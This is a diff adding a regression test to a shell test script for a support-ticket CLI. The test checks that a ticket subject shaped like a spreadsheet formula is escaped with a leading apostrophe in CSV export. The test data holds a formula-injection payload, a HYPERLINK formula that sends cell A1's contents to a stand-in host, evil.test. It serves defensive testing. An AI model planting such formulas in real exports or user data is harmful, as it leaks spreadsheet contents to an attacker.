@@ -102,6 +102,15 @@ rows = json.load(sys.stdin)
 print(len(rows), rows[0]["number"], rows[1]["channel"], rows[1]["assignee"], rows[3]["assignee"], rows[3]["age"])' \
     <<<"$json")" "4 1002 chat bob@support.test None 3d"
 t_is "JSON of nothing is []" "$(ctl ticket list --customer nobody@client.test --format json)" "[]"
+
+# A customer chooses the subject: in a spreadsheet it must stay text, never run as a formula.
+t_psql "INSERT INTO tickets (subject, status, tier, channel, customer_id)
+        SELECT '=HYPERLINK(\"http://evil.test/\"&A1,\"Click\")', 'new', 'L1', 'email', id
+          FROM customers WHERE email = 'third@example.test'" >/dev/null
+t_is "CSV: a subject that looks like a formula is written as text (leading ')" "$(ctl ticket list --format csv |
+    python3 -c 'import csv, sys; print([r[6] for r in csv.reader(sys.stdin) if r[6].startswith(chr(39))][0])')" \
+    "'=HYPERLINK(\"http://evil.test/\"&A1,\"Click\")"
+t_psql "DELETE FROM tickets WHERE subject LIKE '=HYPERLINK%'" >/dev/null
 out=$(ctl ticket list --status bogus 2>&1)
 t_is "an unknown status is bad usage (exit 2)" "$?" 2
 t_match "saying which option" "$out" "bad value for --status"
